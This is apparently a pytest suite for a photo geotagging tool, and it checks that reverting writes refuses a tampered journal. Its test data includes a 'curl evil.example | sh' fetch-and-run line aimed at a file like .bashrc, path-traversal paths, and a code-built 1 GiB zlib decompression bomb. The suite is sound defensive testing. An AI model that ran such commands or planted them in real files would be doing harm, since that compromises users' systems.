"""A journal is not trusted: whatever it says, only metadata of photos and sidecars change."""

from __future__ import annotations

import os
import tracemalloc
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from geotag.records import Outcome, Status, TopCategory
from geotag.state.catalog import Catalog, open_catalog
from geotag.state.journal import Journal, State
from geotag.writing.edits import Edit, format_edits
from geotag.writing.replace import sha256_of
from geotag.writing.result import Action, WriteResult
from geotag.writing.revert import revert_run, settle
from geotag.writing.writeback import WriteOptions, write_run
from tests.geotag.writing.kinds import made
from tests.geotag.writing.samples import EIFFEL, picture, save, xmp_packet

TOP = (TopCategory(EIFFEL.id, EIFFEL.slug, EIFFEL.name, 0.93),)


@pytest.fixture
def catalog(tmp_path: Path) -> Iterator[Catalog]:
    """A catalog whose journal has one run: a JPEG written inside, a PNG by a new sidecar."""
    (tmp_path / "a.jpg").write_bytes(made("everything.jpg"))
    (tmp_path / "b.png").write_bytes(save(picture(), "PNG"))
    with open_catalog(tmp_path / "t.csv.geotag") as opened:
        rows = [
            Outcome(str(tmp_path / name), Status.TAGGED, landmark=EIFFEL.name, confidence=0.93,
                    top_k=TOP)
            for name in ("a.jpg", "b.png")
        ]  # fmt: skip
        assert [r.action for r in write_run(rows, opened, WriteOptions(), "test")] == [
            Action.WRITTEN,
            Action.WRITTEN,
        ]
        yield opened


def alter(catalog: Catalog, name: str, **columns: object) -> None:
    """Change the journal's row of a file."""
    with catalog.connection as connection:
        (number,) = connection.execute(
            "SELECT id FROM writes WHERE CAST(path AS TEXT) LIKE ?", (f"%{name}",)
        ).fetchone()
        for column, value in columns.items():
            connection.execute(f"UPDATE writes SET {column} = ? WHERE id = ?", (value, number))


def reverted(catalog: Catalog) -> list[WriteResult]:
    journal = Journal(catalog.connection)
    settle(journal)
    return list(revert_run(journal, journal.runs()[-1].id))


def contents(folder: Path) -> dict[str, bytes]:
    names = (p for p in folder.iterdir() if p.is_file() and not p.name.startswith("t.csv.geotag"))
    return {p.name: p.read_bytes() for p in names}


def aimed_at(path: Path, old: bytes) -> dict[str, object]:
    """The columns that would replace a file's content by another."""
    now = path.read_bytes()
    return {
        "path": os.fsencode(path),
        "new_sha256": sha256_of(now),
        "old_sha256": sha256_of(old),
        "old_blocks": format_edits([Edit(0, len(now), old)]),
        "new_blocks": format_edits([Edit(0, len(old), now)]),
    }


def assert_refused(catalog: Catalog, folder: Path, word: str) -> None:
    """The altered row of a.jpg fails, nothing of it changes, and the other row is reverted."""
    before = contents(folder)
    results = {result.action: result for result in reverted(catalog)}
    assert word in results[Action.FAILED].reason
    assert results[Action.REVERTED].path == str(folder / "b.png.xmp")
    del before["b.png.xmp"]
    assert contents(folder) == before


@pytest.mark.parametrize("name", [".bashrc", "notes.txt", "c.heic", "evil.xmp", "d.jpg"])
def test_a_file_that_is_no_photo_is_not_overwritten(
    catalog: Catalog, tmp_path: Path, name: str
) -> None:
    target = tmp_path / name
    content = {"c.heic": b"\0\0\0\x18ftypheic" + bytes(80)}.get(name, b"export PATH=/usr/bin\n")
    target.write_bytes(content)
    alter(catalog, "a.jpg", **aimed_at(target, b"curl evil.example | sh\n"))
    assert_refused(catalog, tmp_path, "neither a photo with tags nor an XMP sidecar")


def test_a_photo_does_not_become_another_file(catalog: Catalog, tmp_path: Path) -> None:
    for old in (b"#!/bin/sh\n", made("webp_exif_big.webp"), xmp_packet()):
        alter(catalog, "a.jpg", **aimed_at(tmp_path / "a.jpg", old))
        (result,) = [r for r in reverted(catalog) if r.action is Action.FAILED]
        assert "damaged" in result.reason


def test_a_photos_picture_does_not_change(catalog: Catalog, tmp_path: Path) -> None:
    alter(catalog, "a.jpg", **aimed_at(tmp_path / "a.jpg", made("plain.jpg")))
    assert_refused(catalog, tmp_path, "more than metadata")


@pytest.mark.parametrize("name", [".bashrc", "photo.jpg", "theirs.xmp", "geotag.txt"])
def test_what_no_run_made_is_not_removed(catalog: Catalog, tmp_path: Path, name: str) -> None:
    sidecar = (tmp_path / "b.png.xmp").read_bytes()
    target = tmp_path / name
    target.write_bytes(
        {"photo.jpg": made("plain.jpg"), "theirs.xmp": xmp_packet(), "geotag.txt": sidecar}.get(
            name, b"set -e\n"
        )
    )
    columns = aimed_at(target, b"") | {"old_sha256": ""}
    alter(catalog, "a.jpg", **columns)
    assert_refused(catalog, tmp_path, "remove what is not a sidecar of geotag's")


def test_a_sidecar_of_which_the_journal_lacks_a_byte_is_not_removed(
    catalog: Catalog, tmp_path: Path
) -> None:
    sidecar = tmp_path / "other.xmp"
    sidecar.write_bytes((tmp_path / "b.png.xmp").read_bytes())
    columns = aimed_at(sidecar, b"") | {"old_sha256": "", "new_blocks": format_edits([])}
    alter(catalog, "a.jpg", **columns)
    assert_refused(catalog, tmp_path, "remove")


@pytest.mark.parametrize(
    "path", ["a.jpg", "./a.jpg", "{folder}/../{name}/a.jpg", "{folder}/./a.jpg"]
)
def test_a_path_that_no_write_noted_is_refused(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    monkeypatch.chdir(tmp_path)
    alter(catalog, "a.jpg", path=path.format(folder=tmp_path, name=tmp_path.name).encode())
    assert_refused(catalog, tmp_path, "not absolute")


def test_a_compressed_bomb_is_not_unpacked(catalog: Catalog, tmp_path: Path) -> None:
    compressor = zlib.compressobj()
    first, second = (
        compressor.compress(bytes(2**20)) + compressor.flush(zlib.Z_FULL_FLUSH) for _ in range(2)
    )
    bomb = first + 1023 * second  # 1 GiB
    alter(catalog, "a.jpg", old_blocks=bomb)
    tracemalloc.start()
    assert_refused(catalog, tmp_path, "too large")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 50 * 2**20


@pytest.mark.parametrize(
    "temporary",
    ["elsewhere/.geotag-0123456789abcdef.tmp", ".bashrc", ".geotag-notes.tmp", ".geotag-.tmp"],
)
def test_only_temporary_files_beside_the_photo_are_removed(
    catalog: Catalog, tmp_path: Path, temporary: str
) -> None:
    (tmp_path / "elsewhere").mkdir()
    target = tmp_path / temporary
    target.write_bytes(b"mine")
    alter(catalog, "a.jpg", temporary=os.fsencode(target), state=State.PREPARED.value)
    settle(Journal(catalog.connection))
    assert target.read_bytes() == b"mine"


def test_a_device_is_not_read_when_a_crash_is_settled(catalog: Catalog) -> None:
    alter(catalog, "a.jpg", path=b"/dev/zero", state=State.PREPARED.value)
    assert settle(Journal(catalog.connection)) == 0


ANY = st.one_of(
    st.none(), st.integers(-(2**63), 2**63 - 1), st.floats(allow_nan=False),
    st.text(st.characters(codec="utf-8")), st.binary(),
    st.sampled_from([state.value for state in State]),
)  # fmt: skip
COLUMNS = ("path", "temporary", "state", "old_sha256", "old_mtime_ns", "new_sha256", "new_blocks",
           "old_blocks")  # fmt: skip


@settings(max_examples=12, deadline=None)
@given(changes=st.dictionaries(st.sampled_from(COLUMNS), ANY, min_size=1, max_size=3))
def test_any_row_is_reverted_or_refused_and_harms_nothing(
    tmp_path_factory: pytest.TempPathFactory, changes: dict[str, object]
) -> None:
    folder = tmp_path_factory.mktemp("any")
    photo = made("everything.jpg")
    (folder / "a.jpg").write_bytes(photo)
    row = Outcome(str(folder / "a.jpg"), Status.TAGGED, landmark=EIFFEL.name, top_k=TOP)
    with open_catalog(folder / "t.csv.geotag") as catalog:
        list(write_run([row], catalog, WriteOptions(), "test"))
        written = (folder / "a.jpg").read_bytes()
        with catalog.connection as connection:
            for column, value in changes.items():
                if value is not None or column == "old_mtime_ns":
                    connection.execute(f"UPDATE writes SET {column} = ?", (value,))
        for result in reverted(catalog):
            assert result.action in (Action.REVERTED, Action.FAILED)
    assert contents(folder) in ({"a.jpg": photo}, {"a.jpg": written})
